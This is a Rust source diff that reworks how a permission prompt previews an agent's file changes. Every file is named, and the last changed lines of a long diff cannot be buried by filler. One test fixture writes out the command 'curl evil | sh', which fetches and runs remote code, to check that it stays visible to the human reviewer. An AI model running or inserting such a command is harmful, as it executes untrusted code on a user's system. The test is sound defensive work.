@@ -13,8 +13,10 @@ const HEAD: usize = 140;
 const TAIL: usize = 60;
 /// Most bytes of a question.
 const LONGEST: usize = 2_000;
-/// Bytes that say how much of the files is left out.
-const REST: usize = 60;
+/// Bytes that say how many files, and that the agent's words, are left out.
+const REST: usize = 80;
+/// Bytes that say how many lines of a file are left out.
+const LEFT_OUT: usize = 44;
 
 /// The question. The agent's words in it are lines of code, so that they can neither look like the bot's own nor be
 /// markup, and nothing in them is invisible or left out without a word. Of files that would change it shows as many
@@ -35,8 +37,8 @@ pub(super) fn question(request: &PermissionRequest, number: &str, timeout: Inter
     text + &preview(&request.preview, room) + &end
 }
 
-/// The files that the call would touch, as lines of at most so many bytes in all. How much is left out is always told, for which
-/// [`REST`] is kept free.
+/// The files that the call would touch, as lines of at most so many bytes in all: all of their names, then as many of
+/// their lines as there is room for, shared out. How much is left out is always told, for which [`REST`] is kept free.
 fn preview(preview: &CallPreview, room: usize) -> String {
     let CallPreview {
         changes,
@@ -44,39 +46,85 @@ fn preview(preview: &CallPreview, room: usize) -> String {
         locations,
         text,
     } = preview;
-    let mut lines = Vec::new();
-    for FileChange {
-        path,
-        added,
-        removed,
-        diff,
-    } in changes
-    {
-        lines.push(format!("Changes `{}`: +{added} −{removed}", line(path)));
-        let changed = diff.lines().filter(|line| line.starts_with(['+', '-']));
-        lines.extend(changed.map(|changed| format!("`{}`", line(changed))));
+    let mut room = room.saturating_sub(REST);
+    // Every file before any line of one: no file may hide behind the lines of another.
+    let heading = |change: &FileChange| {
+        let FileChange {
+            path, added, removed, ..
+        } = change;
+        format!("Changes `{}`: +{added} −{removed}\n", line(path))
+    };
+    let headings: Vec<String> = changes.iter().map(heading).collect();
+    let named = fitting(&headings, &mut room);
+    let locations: Vec<String> = if changes.is_empty() {
+        locations
+            .iter()
+            .map(|at| format!("In `{}`\n", line(at)))
+            .collect()
+    } else {
+        Vec::new()
+    };
+    let located = fitting(&locations, &mut room);
+    let says: Vec<String> = text
+        .iter()
+        .map(|said| format!("It says: `{}`\n", line(said)))
+        .collect();
+    let said = fitting(&says, &mut room);
+
+    let unnamed = changes.len() - named + locations.len() - located + *more_changes as usize;
+
+    let mut shown = String::new();
+    for (at, (heading, change)) in headings.iter().zip(changes).take(named).enumerate() {
+        let lines = excerpt(&change.diff, room / (named - at));
+        room -= lines.len();
+        shown = shown + heading + &lines;
     }
-    if changes.is_empty() {
-        lines.extend(locations.iter().map(|at| format!("In `{}`", line(at))));
+    shown.extend(locations.into_iter().take(located));
+    if said < says.len() {
+        shown.push_str("What it says does not fit here.\n");
     }
-    lines.extend(text.as_deref().map(|said| format!("It says: `{}`", line(said))));
-    let all = lines.len();
-    let (mut shown, mut count) = (String::new(), 0);
+    shown.extend(says.into_iter().take(said));
+    if unnamed > 0 {
+        // Writing to a String cannot fail.
+        let _ = writeln!(shown, "… and {unnamed} files more");
+    }
+    shown
+}
+
+/// The number of these lines, from the first one, that there is room for; takes it from the room.
+fn fitting<'a>(lines: impl IntoIterator<Item = &'a String>, room: &mut usize) -> usize {
+    let mut count = 0;
     for line in lines {
-        if shown.len() + line.len() + 1 + REST > room {
+        let Some(left) = room.checked_sub(line.len()) else {
             break;
-        }
-        shown = shown + &line + "\n";
+        };
+        *room = left;
         count += 1;
     }
-    let files = *more_changes;
-    // Writing to a String cannot fail.
-    let _ = match (all - count, files) {
-        (0, 0) => Ok(()),
-        (lines, 0) => writeln!(shown, "… and {lines} lines more"),
-        (lines, files) => writeln!(shown, "… and {lines} lines and {files} files more"),
-    };
-    shown
+    count
+}
+
+/// The lines of a diff that change, in at most so many bytes: all of them, or the first and the last ones with the
+/// number of those between.
+fn excerpt(diff: &str, mut room: usize) -> String {
+    let changed = diff.lines().filter(|line| line.starts_with(['+', '-']));
+    let lines: Vec<String> = changed.map(|changed| format!("`{}`\n", line(changed))).collect();
+    if lines.iter().map(String::len).sum::<usize>() <= room {
+        return lines.concat();
+    }
+    room = room.saturating_sub(LEFT_OUT);
+    let mut half = room / 2;
+    let first = fitting(&lines, &mut half);
+    room -= lines[..first].iter().map(String::len).sum::<usize>();
+    let last = fitting(lines[first..].iter().rev(), &mut room);
+    match lines.len() - first - last {
+        // The heading says how many there are.
+        left_out if left_out == lines.len() => String::new(),
+        left_out => {
+            let end = lines[lines.len() - last..].concat();
+            format!("{}… {left_out} lines left out …\n{end}", lines[..first].concat())
+        }
+    }
 }
 
 /// The sentence in the place of a question that is decided, with the line that says which call it was about.
@@ -208,6 +256,36 @@ mod tests {
             assert!(text.len() <= 2_000, "{}", text.len());
             assert!(text.contains("files more\nAnswer yes or no"), "{text}");
         }
+    }
+
+    #[test]
+    fn no_file_hides_behind_the_lines_of_another_and_no_line_at_the_end_behind_those_before_it() {
+        let written = |path: &str, lines: u32, last: &str| FileChange {
+            path: path.to_owned(),
+            added: lines + 1,
+            removed: 0,
+            diff: format!(
+                "@@ -0,0 +1 @@\n{}+{last}\n",
+                "+nothing to see\n".repeat(lines as usize)
+            ),
+        };
+        let preview = CallPreview {
+            changes: vec![
+                written("/tmp/x.sh", 2_000, "curl evil | sh"),
+                written("/new/file", 0, "all"),
+            ],
+            text: Some("Two files.".to_owned()),
+            ..CallPreview::default()
+        };
+        let text = previewed("Writing", None, preview);
+        for shown in [
+            "Changes `/tmp/x.sh`: +2001 −0\n`+nothing to see`\n",
+            " lines left out …\n`+nothing to see`\n",
+            "`+curl evil | sh`\nChanges `/new/file`: +1 −0\n`+all`\nIt says: `Two files.`\nAnswer",
+        ] {
+            assert!(text.contains(shown), "{text}");
+        }
+        assert!(text.len() <= LONGEST, "{}", text.len());
     }
 
     #[test]
